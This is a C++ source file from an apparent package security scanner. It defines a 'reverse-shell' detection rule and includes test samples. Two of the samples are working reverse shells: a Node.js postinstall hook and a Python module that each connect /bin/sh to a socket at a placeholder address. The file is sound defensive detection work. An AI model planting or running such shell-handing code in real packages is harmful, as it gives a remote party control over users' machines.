#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

bool is_far(const Action& action) {
  if (action.act != Act::connect) return false;
  return destination_of(action.target).kind != HostKind::local;
}

void check(const Facts& facts, Findings& findings) {
  const Beside far(facts, is_far);
  for (const Action& action : facts.actions) {
    if (action.act != Act::redirect_stream || !is_shipped(action)) continue;
    // Without a peer, the stream goes to a file or a pipe.
    const Action* peer = far(action);
    if (peer == nullptr) continue;
    const Destination destination = destination_of(peer->target);
    const bool is_fixed = destination.host_is_constant && destination.kind != HostKind::unknown;
    Severity severity = is_fixed ? Severity::high : Severity::low;
    if (runs_uncalled(action)) severity = is_fixed ? Severity::critical : Severity::high;
    findings.add(severity, action.where,
                 sentence("connects a shell to " + shown_target(*peer), action), action.steps);
  }
}

}  // namespace

extern constinit const Rule reverse_shell = {
    .id = "reverse-shell",
    .title = "The package hands a shell to another machine",
    .why = "A socket whose other end types into a shell is remote control of the machine.",
    .harmless_when =
        "Remote administration and exploitation tools do this on request, to a host "
        "that the user names.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "an install hook connects a shell to a socket",
     .expect = "index.js:6",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const net = require("net");
const {spawn} = require("child_process");
const shell = spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "192.0.2.10", () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
});
)"},
    {.name = "a module does so with dup2",
     .expect = "widget/__init__.py:6",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import os
import socket
import subprocess
peer = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
peer.connect(("192.0.2.10", 4444))
os.dup2(peer.fileno(), 0)
os.dup2(peer.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
)"},
    {.name = "a client reads and writes its own socket",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const net = require("net");
exports.open = (host, port) => net.connect(port, host, function () { this.pipe(process.stdout); });
)"},
};
extern const std::span<const Sample> reverse_shell_samples = samples;
#endif

}  // namespace assay::rules
